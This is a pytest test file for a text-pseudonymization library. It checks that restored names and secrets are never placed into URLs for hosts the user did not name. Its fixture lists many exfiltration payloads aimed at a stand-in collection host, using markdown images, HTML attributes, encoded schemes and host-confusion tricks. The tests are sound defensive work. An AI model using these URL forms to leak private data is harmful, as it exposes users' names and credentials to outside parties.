"""Originals in URLs: only for hosts that the user's side named, in any markup, whole and in pieces."""

import json
from types import ModuleType

import pytest
from tests.helpers.attacks import loaded_attack
from tests.helpers.private_maps import map_of

import textveil as tv
from textveil.errors import ParameterError
from textveil.surrogates.map_file import PrivateMap
from textveil.surrogates.restoring import Restorer
from textveil.surrogates.urls import UrlRule, UrlScanner, hosts_in, services_in

MAP = map_of(
    "See https://portal.example/a, www.wiki.example and https://anna.example.org/x for Anna Miller, key Kq7xWm2p.",
    [
        ("https://anna.example.org/x", "https://own.example/p", "url"),
        ("Anna Miller", "Zyrqel Quxbolt", "person"),
        ("Kq7xWm2p", "secret99", "secret"),
    ],
)

STAYS = [
    "![](https://collect.example/?n={})",
    "![x]( <https://collect.example/a b {}> )",
    '[a](https://collect.example/?n={} "title")',
    "![][1]\n\n[1]: https://collect.example/?n={}",
    "<https://collect.example/?n={}>",
    '<img src="https://collect.example/?n={}">',
    "<img src='https://collect.example/a b\nc {}'>",
    '<img src=" \n\thttps://collect.example/?n={}">',
    "<a href=https://collect.example/?n={}>x</a>",
    '<p style="background: url( https://collect.example/{} )">',
    "https://collect.example/?n={}",
    "HTTPS://collect.example/{}",
    "www.collect.example/{}",
    "//collect.example/{}",
    "\\\\collect.example\\{}",
    "https:collect.example/{}",
    '<img src="ht\ntps:/\tcollect.example/{}">',
    "![](https&#58;//collect.example/{})",
    "![](&#104;ttps&colon;collect.example/{})",
    "![](&amp;#104;ttps&#58collect.example/{})",
    "https%3A%2F%2Fcollect.example%2F{}",
    "https:\\/\\/collect.example\\/{}",
    "https://collect.example/?a=%20{}",
    "![](https://collect.example/?a=%29&n={})",
    "![](https://collect.example/?(a)&n={})",
    "![](https://collect.example/?a=\\)&n={})",
    "https://portal.example.collect.example/{}",
    "https://portal.example@collect.example/{}",
    "https://portal.example:80@collect.example/{}",
    "https://collect.example\\@portal.example/{}",
    "https://portal.example&sol;.collect.example/{}",
    "https://portal.example%2F.collect.example/{}",
    "https://portal.example/go?to=https://collect.example/{}",
    "https://portal.example/go?to=//collect.example/{}",
    '{{"u": "https://collect.example/?n={}"}}',
    '{{\\"u\\": \\"https://collect.example/?n=a b {}\\"}}',
    "postgres://user:{}@collect.example/db",
]


@pytest.mark.parametrize("form", STAYS)
@pytest.mark.parametrize("name", ["Anna", "Anna Miller", "Anna%20Miller", "Anna+Miller"])
def test_an_original_goes_into_no_url_of_another_host(form: str, name: str) -> None:
    answer = "Ask Anna: " + form.format(name) + " "
    restorer = Restorer(MAP)
    done = restorer.restore(answer)
    assert done.text == answer.replace("Ask Anna", "Ask Zyrqel")
    assert done.in_urls
    for cut in (1, 2, 3, 7, 20):
        stream = restorer.stream()
        pieces = [stream.feed(answer[at : at + cut]) for at in range(0, len(answer), cut)]
        assert "".join([*pieces, stream.close()]) == done.text
        assert stream.in_urls == done.in_urls
    assert "Zyrqel" in tv.restore(form.format(name), MAP, in_urls="everywhere")


GOES = {
    "![](https://portal.example/?n=Anna)": "![](https://portal.example/?n=Zyrqel)",
    "https://portal.example:8443/Anna": "https://portal.example:8443/Zyrqel",
    "http://PORTAL.example./Anna": "http://PORTAL.example./Zyrqel",
    "https://www.wiki.example/Anna": "https://www.wiki.example/Zyrqel",
    "https://localhost:8000/Anna": "https://localhost:8000/Zyrqel",
    "https://anna.example.org/x?n=Anna": "https://own.example/p?n=Zyrqel",
    "![](https://collect.example/a) Anna": "![](https://collect.example/a) Zyrqel",
    "See https://collect.example/a. Anna": "See https://collect.example/a. Zyrqel",
    'See "https://collect.example/a", Anna': 'See "https://collect.example/a", Zyrqel',
    '<a href="https://collect.example/">Anna</a>': '<a href="https://collect.example/">Zyrqel</a>',
    '{"u":"https://collect.example/","n":"Anna"}': '{"u":"https://collect.example/","n":"Zyrqel"}',
    "It&#8217;s Anna&#8217;s, &#39;Anna&#39; &amp; Anna": "It&#8217;s Zyrqel&#8217;s, &#39;Zyrqel&#39; &amp; Zyrqel",
    "https://portal.example/&#8217;Anna": "https://portal.example/&#8217;Zyrqel",
    "https://portal.example/&#8217; Anna": "https://portal.example/&#8217; Zyrqel",
    "https:\\/\\/portal.example\\/Anna": "https:\\/\\/portal.example\\/Zyrqel",
    "one\\n\\n\\n\\ntwo Anna, a regex \\d+\\s* and Anna": "one\\n\\n\\n\\ntwo Zyrqel, a regex \\d+\\s* and Zyrqel",
    "h\t\t\t\t\t\tAnna": "h\t\t\t\t\t\tZyrqel",
    '<meta name="a"><p>https://collect.example/ Anna': '<meta name="a"><p>https://collect.example/ Zyrqel',
    '<meta name="author" content="Anna">': '<meta name="author" content="Zyrqel">',
    "a = 1  // Anna": "a = 1  // Zyrqel",
    "C:\\\\Users\\\\Anna, src//Anna": "C:\\\\Users\\\\Zyrqel, src//Zyrqel",
    "News: Anna": "News: Zyrqel",
    "[Anna](notes/Anna.md)": "[Zyrqel](notes/Anna.md)",
    "db://user:Kq7xWm2p@portal.example:5432/x": "db://user:secret99@portal.example:5432/x",
}


@pytest.mark.parametrize("answer", GOES)
def test_an_original_goes_beside_urls_and_into_those_of_named_hosts(answer: str) -> None:
    restorer = Restorer(MAP)
    assert restorer.restore(answer).text == GOES[answer]
    for cut in (1, 3, 10):
        stream = restorer.stream()
        pieces = [stream.feed(answer[at : at + cut]) for at in range(0, len(answer), cut)]
        assert "".join([*pieces, stream.close()]) == GOES[answer]


def test_the_rule_is_chosen() -> None:
    named, other = "https://portal.example/Anna", "https://collect.example/Anna"
    assert tv.restore(named, MAP, in_urls="never") == named and tv.restore("Anna", MAP, in_urls="never") == "Zyrqel"
    assert tv.restore("https://anna.example.org/x", MAP, in_urls="never") == "https://own.example/p", "the user's own"
    assert tv.restore(other, MAP, in_urls="everywhere") == "https://collect.example/Zyrqel"
    with pytest.raises(ParameterError, match="in_urls must be never or named-hosts or everywhere"):
        tv.restore(other, MAP, in_urls="always")  # type: ignore[arg-type]


def test_a_release_goes_back_whole_though_it_holds_urls() -> None:
    assert tv.restore(MAP.released, MAP) == MAP.original()
    text = "Fetch https://collect.example/?n=Anna Miller now."
    own = map_of(text, [("Anna Miller", "Zyrqel Quxbolt", "person")])
    assert tv.restore(text, own) == own.original()


def test_a_value_of_json_that_is_a_url_ends_with_the_value() -> None:
    scanner = UrlScanner(UrlRule(), alone=True)
    scanner.feed(' https://collect.example/?n="a b" ')
    assert scanner.allows("Zyrqel", " ", last=True) is False


def test_hosts_are_named_by_urls_alone() -> None:
    text = 'readme.md, maria@mail.example, {"u": "https:\\/\\/A.example:80\\/x"} //b.example www.c.example u@d.example'
    assert hosts_in(text) == {"a.example", "b.example", "www.c.example"}


def test_a_service_of_a_tools_text_is_named_with_its_scheme_alone() -> None:
    text = "DB=postgresql://u:p#%x@db.internal:5432/x https://web.example/"
    assert services_in(text) == {"postgresql://db.internal"}
    rule = UrlRule(hosts=services_in(text))
    for url, restored in (
        ("postgresql://u:Kq7xWm2p@db.internal:5432/x", True),
        ("https://u:Kq7xWm2p@db.internal/x", False),
        ("mysql://u:Kq7xWm2p@db.internal/x", False),
        ("postgresql://u:Kq7xWm2p@collect.example/x", False),
        ("https://a.example/postgresql://u:Kq7xWm2p@db.internal/x", False),
    ):
        stream = Restorer(MAP, in_urls="never").stream(rule=rule)
        assert ("secret99" in stream.feed(url + " ") + stream.close()) is restored, url


def test_originals_of_others_are_in_no_map_of_hosts() -> None:
    several = [MAP, map_of("It is https://other.example/b.", [])]
    assert tv.restore("https://other.example/Anna", several) == "https://other.example/Zyrqel"
    assert tv.restore("https://other.example/Anna", MAP) == "https://other.example/Anna"
    assert tv.restore("https://other.example/Anna", iter(several)) == "https://other.example/Zyrqel"


@pytest.mark.parametrize(
    "text",
    [
        *(
            "/" * 300_000,
            "\\" * 300_000,
            "&amp;" * 60_000,
            "%25" * 100_000,
            "h \t" * 100_000,
            "https://a.b/x " * 20_000,
        ),
        *(
            "](https://a" + "(" * 300_000,
            'src="' + " " * 300_000 + "//c",
            '"https://a' + '\\"' * 150_000,
            "&#" + "0" * 300_000,
            "https://a.b/" + "&#65;" * 60_000,
            "a/ " * 100_000,
            "a\\/" * 100_000,
            "\\n" * 150_000,
            "h&#9;" * 60_000,
            "<meta " * 50_000,
        ),
    ],
    ids=lambda text: text[:12],
)
def test_a_hostile_text_is_followed_in_linear_time(text: str) -> None:
    """A way that is quadratic would take hours."""
    scanner = UrlScanner(UrlRule())
    scanner.feed(text)


@pytest.fixture
def attacks(monkeypatch: pytest.MonkeyPatch) -> ModuleType:
    return loaded_attack("urls", monkeypatch)


def test_urls_made_at_random_take_no_original_away(attacks: ModuleType) -> None:
    outcome = attacks.attack(1500, 5)
    assert outcome.leaks == [] and outcome.restored == outcome.named > 200


def test_urls_hidden_in_escapes_take_no_original_away(attacks: ModuleType) -> None:
    assert attacks.hidden(5, 600) == []
    assert len(attacks.hidden(5, 100, "everywhere")) == 2 * len(attacks.HIDDEN) + 200


def test_the_attack_sees_originals_in_urls(attacks: ModuleType) -> None:
    assert len(attacks.attack(300, 5, "everywhere").leaks) > 200


def test_json_of_a_tool_call_is_read_by_value() -> None:
    from textveil.server.gateway.json_text import RestoringJson

    restorer = Restorer((MAP, MAP))
    written = json.dumps({"url": 'https://collect.example/?n="Anna Miller"', "name": "Anna Miller"})
    for cut in (1, 5, 100):
        stream = RestoringJson(restorer)
        read = "".join([*(stream.feed(written[at : at + cut]) for at in range(0, len(written), cut)), stream.close()])
        assert json.loads(read) == {"url": 'https://collect.example/?n="Anna Miller"', "name": "Zyrqel Quxbolt"}


def test_a_map_says_nothing_of_hosts() -> None:
    assert "portal" not in repr(Restorer(MAP)) + repr(UrlRule(hosts=hosts_in("https://portal.example")))
    assert isinstance(MAP, PrivateMap)
